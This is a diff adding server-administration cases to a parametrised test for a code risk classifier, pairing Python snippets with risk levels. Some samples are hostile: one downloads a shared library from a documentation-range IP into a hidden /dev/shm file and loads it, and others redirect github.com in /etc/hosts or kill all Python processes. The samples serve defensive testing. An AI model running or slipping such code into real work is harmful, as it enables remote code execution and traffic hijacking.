@@ -1530,6 +1530,66 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             S,
         ),
+        # server administration
+        (
+            """
+            from pathlib import Path
+            hosts = Path("/etc/hosts")
+            with hosts.open("a") as fh:
+                fh.write("10.20.0.15\\tdb01.lan db01\\n")
+            """,
+            M,
+        ),
+        (
+            """
+            from pathlib import Path
+            with Path("/etc/hosts").open("a") as fh:
+                fh.write("203.0.113.5 github.com\\n")
+            """,
+            H,
+        ),
+        (
+            """
+            import shutil
+            shutil.copy2("/etc/fstab", "/etc/fstab.bak.1")
+            """,
+            L,
+        ),
+        (
+            """
+            import psutil
+            for p in psutil.process_iter(["name"]):
+                if p.info["name"] == "myapp-worker":
+                    p.terminate()
+            """,
+            M,
+        ),
+        (
+            """
+            import psutil
+            for p in psutil.process_iter(["name"]):
+                if "python" in p.info["name"]:
+                    p.kill()
+            """,
+            H,
+        ),
+        (
+            """
+            import ctypes, urllib.request
+            path = "/dev/shm/.libx.so"
+            with open(path, "wb") as fh:
+                fh.write(urllib.request.urlopen("http://198.51.100.9/x.so").read())
+            ctypes.CDLL(path)
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess
+            subprocess.run(["useradd", "-m", "-s", "/bin/bash", "alice"], check=True)
+            """,
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
